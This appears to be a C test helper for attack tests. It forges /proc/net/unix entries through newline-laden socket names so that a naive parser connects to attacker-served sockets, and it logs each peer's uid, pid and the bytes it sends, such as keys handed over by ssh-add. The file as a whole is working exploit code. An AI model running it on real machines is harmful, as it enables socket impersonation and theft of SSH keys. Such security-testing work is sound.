/*
 * Test helper, the attacker of the net/unix attack tests: forges lines of /proc/net/unix with socket paths
 * that hold a newline, and serves the sockets the forged lines point to, logging who connects.
 *
 * forge_net_unix DIR COUNT INODE:NAME...
 *   For each INODE:NAME, listens on DIR/NAME and binds COUNT sockets (not listening) named
 *   "DIR/<n>\n<a well-formed net/unix line claiming INODE with the path DIR/NAME>" (the directories its slashes
 *   make are created): the kernel prints the name
 *   raw, so a reader that splits net/unix on newlines sees a socket INODE bound at DIR/NAME. Many copies: the
 *   kernel lists sockets by hash bucket, and some copy should come before the line of the real INODE: COUNT
 *   more copies while none does, a few times.
 *   Writes DIR/ready once every socket is bound, then accepts on the listeners for ever and appends one line
 *   "NAME uid=U pid=P bytes=N" to DIR/log per connection (SO_PEERCRED, and what the peer sent within a
 *   second: a key that ssh-add hands over shows as bytes). The test ends it by PID.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

#define MAX_TARGETS 8
#define MAX_BATCHES 8

/*
 * Whether the first line of net/unix that names inode (split on newlines, as the reader under attack does)
 * carries the forged path DIR/NAME. The kernel lists sockets by hash bucket, newest first within one.
 */
static int forged_first(const char *dir, unsigned long long inode, const char *name)
{
	static char buf[1 << 24];
	char want[256], *line, *nl;
	unsigned long long ino;
	size_t len = 0;
	ssize_t r;
	int fd, at;

	fd = open("/proc/net/unix", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	while (len < sizeof buf - 1 && (r = read(fd, buf + len, sizeof buf - 1 - len)) > 0)
		len += (size_t)r;
	close(fd);
	buf[len] = 0;
	snprintf(want, sizeof want, "%s/%s", dir, name);
	for (line = buf; line < buf + len; line = nl + 1) {
		nl = strchr(line, '\n');
		if (!nl)
			nl = buf + len;
		*nl = 0;
		at = 0;
		if (sscanf(line, "%*s %*s %*s %*s %*s %*s %llu %n", &ino, &at) == 1 && ino == inode)
			return at && !strcmp(line + at, want);
	}
	return 0;
}

static int bind_path(const char *path, int listening)
{
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	size_t len = strlen(path);
	int fd;

	if (len >= sizeof sa.sun_path) {
		fprintf(stderr, "forge_net_unix: path too long (%zu bytes)\n", len);
		exit(2);
	}
	memcpy(sa.sun_path, path, len);
	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + len + 1)) ||
	    (listening && listen(fd, 64))) {
		fprintf(stderr, "forge_net_unix: %s: %s\n", path, strerror(errno));
		exit(1);
	}
	return fd;
}

/* The forged line holds the served path, slashes and all: the directories down to the socket must exist */
static void make_parents(char *path, size_t from)
{
	char *slash;

	for (slash = strchr(path + from, '/'); slash; slash = strchr(slash + 1, '/')) {
		*slash = 0;
		if (mkdir(path, 0755) && errno != EEXIST) {
			fprintf(stderr, "forge_net_unix: mkdir: %s\n", strerror(errno));
			exit(1);
		}
		*slash = '/';
	}
}

static void log_peer(const char *dir, const char *name, int c)
{
	struct timeval tv = {1, 0};
	struct ucred cred = {0, 0, 0};
	socklen_t clen = sizeof cred;
	char path[4096], buf[4096];
	long total = 0;
	ssize_t r;
	FILE *f;

	getsockopt(c, SOL_SOCKET, SO_PEERCRED, &cred, &clen);
	setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	while ((r = read(c, buf, sizeof buf)) > 0)
		total += r;
	snprintf(path, sizeof path, "%s/log", dir);
	f = fopen(path, "a");
	if (f) {
		fprintf(f, "%s uid=%u pid=%d bytes=%ld\n", name, (unsigned)cred.uid, (int)cred.pid, total);
		fclose(f);
	}
}

int main(int argc, char **argv)
{
	struct pollfd pfd[MAX_TARGETS];
	const char *name[MAX_TARGETS];
	unsigned long long inode[MAX_TARGETS];
	char path[256], *end;
	struct rlimit rl = {1024, 1024};
	long count, i, next;
	int t, n, c, batch;

	if (argc < 4 || argc - 3 > MAX_TARGETS) {
		fprintf(stderr, "usage: forge_net_unix DIR COUNT INODE:NAME...\n");
		return 2;
	}
	count = strtol(argv[2], &end, 10);
	if (*end || count < 1) {
		fprintf(stderr, "forge_net_unix: bad count\n");
		return 2;
	}
	/* each forged copy is an open socket: as many descriptors as the hard limit allows */
	if (getrlimit(RLIMIT_NOFILE, &rl) == 0) {
		rl.rlim_cur = rl.rlim_max;
		setrlimit(RLIMIT_NOFILE, &rl);
		getrlimit(RLIMIT_NOFILE, &rl);
	}
	if ((rlim_t)count * (rlim_t)(argc - 3) + 16 > rl.rlim_cur)
		count = (long)((rl.rlim_cur - 16) / (rlim_t)(argc - 3));
	n = 0;
	for (t = 3; t < argc; t++) {
		inode[n] = strtoull(argv[t], &end, 10);
		if (*end != ':' || !inode[n] || strchr(end + 1, '/')) {
			fprintf(stderr, "forge_net_unix: bad target '%s'\n", argv[t]);
			return 2;
		}
		name[n] = end + 1;
		snprintf(path, sizeof path, "%s/%s", argv[1], name[n]);
		unlink(path);
		pfd[n].fd = bind_path(path, 1);
		pfd[n].events = POLLIN;
		n++;
	}
	/* batches until a forged line of every target comes first, as far as descriptors allow */
	for (batch = 0, next = 0; batch < MAX_BATCHES; batch++) {
		for (t = 0; t < n; t++) {
			if (batch && forged_first(argv[1], inode[t], name[t]))
				continue;
			if (next + count + 16 > (long)rl.rlim_cur)
				break;
			for (i = 0; i < count; i++, next++) {
				/* the kernel's own format: "%pK: %08X %08X %08X %04X %02X %5lu" and the path */
				snprintf(path, sizeof path,
					 "%s/%lx\n0000000000000000: 00000002 00000000 00010000 0001 01 %5llu %s/%s",
					 argv[1], next, inode[t], argv[1], name[t]);
				make_parents(path, strlen(argv[1]) + 1);
				bind_path(path, 0);
			}
		}
		for (t = 0; t < n && forged_first(argv[1], inode[t], name[t]); t++)
			;
		if (t == n)
			break;
	}
	snprintf(path, sizeof path, "%s/ready", argv[1]);
	c = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (c >= 0)
		close(c);
	for (;;) {
		if (poll(pfd, (nfds_t)n, -1) < 0)
			continue;
		for (t = 0; t < n; t++) {
			if (!(pfd[t].revents & POLLIN))
				continue;
			c = accept4(pfd[t].fd, NULL, NULL, SOCK_CLOEXEC);
			if (c >= 0) {
				log_peer(argv[1], name[t], c);
				close(c);
			}
		}
	}
}
